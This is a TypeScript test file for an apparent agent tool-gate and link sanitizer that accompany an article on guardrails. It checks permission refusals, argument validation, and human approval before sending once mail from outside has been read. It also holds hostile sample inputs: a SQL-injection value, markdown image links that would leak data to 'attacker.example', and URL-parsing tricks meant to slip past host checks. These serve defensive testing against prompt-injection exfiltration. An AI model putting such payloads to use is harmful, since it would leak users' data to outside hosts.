/** The article on guardrails prints it: what was read from outside never sends on its own. */
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { z } from 'zod'
import { decide, type Session, type Tool } from '../../site/examples/tool-gate/gate.ts'
import { withoutOutsideLinks } from '../../site/examples/tool-gate/links.ts'

const tools = {
  readMail: { input: z.strictObject({}), effect: 'read', fromOutside: true },
  findOrder: { input: z.strictObject({ number: z.string().regex(/^\d{6}$/u) }), effect: 'read' },
  reply: { input: z.strictObject({ text: z.string().max(2000) }), effect: 'send' },
  refund: { input: z.strictObject({ euros: z.number().positive().max(50) }), effect: 'final' },
} as const satisfies Readonly<Record<string, Tool>>
const open = new Map<string, Tool>(Object.entries(tools))
const inputs: Readonly<Record<keyof typeof tools, unknown>> = {
  readMail: {},
  findOrder: { number: '123456' },
  reply: { text: 'Bonjour' },
  refund: { euros: 20 },
}
const fresh: Session = { allowed: Object.keys(tools), tainted: false }
const tainted: Session = { ...fresh, tainted: true }

describe('the gate', () => {
  test('refuses a tool that this person may not use, and one that there is not', () => {
    const guest = { ...fresh, allowed: ['findOrder', 'format'] }
    expect(decide(open, 'refund', { euros: 5 }, guest).kind).toBe('refuse')
    expect(decide(open, 'format', {}, guest).kind).toBe('refuse')
    expect(decide(open, 'toString', {}, { ...fresh, allowed: ['toString'] }).kind).toBe('refuse')
  })

  test('refuses arguments out of form', () => {
    expect(decide(open, 'refund', { euros: 5000 }, fresh).kind).toBe('refuse')
    expect(decide(open, 'findOrder', { number: '1 OR 1=1' }, fresh).kind).toBe('refuse')
    expect(decide(open, 'reply', { text: 'a', copyTo: 'x@example.org' }, fresh).kind).toBe('refuse')
  })

  test('asks before what cannot be undone, and before sending once tainted', () => {
    expect(decide(open, 'refund', { euros: 20 }, fresh).kind).toBe('ask')
    expect(decide(open, 'reply', inputs.reply, fresh).kind).toBe('run')
    expect(decide(open, 'reply', inputs.reply, tainted).kind).toBe('ask')
  })

  test('sends nothing alone after text from outside, whatever the calls', () => {
    const call = fc.constantFrom<keyof typeof tools>('readMail', 'findOrder', 'reply', 'refund')
    fc.assert(
      fc.property(fc.array(call), (calls) => {
        let session = fresh
        let read = false
        for (const name of calls) {
          const verdict = decide(open, name, inputs[name], session)
          if (verdict.kind !== 'run') continue
          expect(read && tools[name].effect === 'send').toBe(false)
          read ||= name === 'readMail'
          ;({ session } = verdict)
        }
      }),
    )
  })
})

test('an answer keeps the addresses that are named, over HTTPS, and no other', () => {
  const shown = (answer: string) => withoutOutsideLinks(answer, ['docs.example.org'])
  expect(shown('Voir https://docs.example.org/a?b=1.')).toContain('https://docs.example.org/a?b=1')
  expect(shown('HTTPS://Docs.Example.org/')).toBe('HTTPS://Docs.Example.org/')
  // A browser takes what stands before an `@` for a user: these lead to the attacker.
  for (const end of ['|', "'", '"', ')', ' ', '\\)', '\\.'])
    expect(shown(`![x](<https://docs.example.org${end}@attacker.example/>)`)).not.toContain(
      'https:',
    )
  // What ends an address here ends none for a browser: without its beginning, it leads nowhere.
  for (const address of [
    "http:'@attacker.example/",
    'http:)@attacker.example/',
    '//`@attacker.example/',
  ])
    expect(shown(`<${address}>`)).toMatch(/^<\[address removed\]/u)
  for (const address of [
    'https://attacker.example/?d=secret',
    'http://docs.example.org/a',
    '//attacker.example/x.png',
    // Browsers read a backslash as a slash, and do without the slashes after `http:`.
    '/\\attacker.example/x.png',
    'http:attacker.example/x.png',
    'https://docs.example.org.attacker.example/',
    'https://docs.example.org@attacker.example/',
  ]) {
    expect(shown(`![x](${address})`)).toBe('![x]([address removed])')
    expect(shown(`[x][1]\n\n[1]: ${address}`)).not.toContain('attacker')
    // Cells of a table need no space between them.
    expect(shown(`|https://docs.example.org/|${address}|`)).not.toContain('attacker')
  }
})
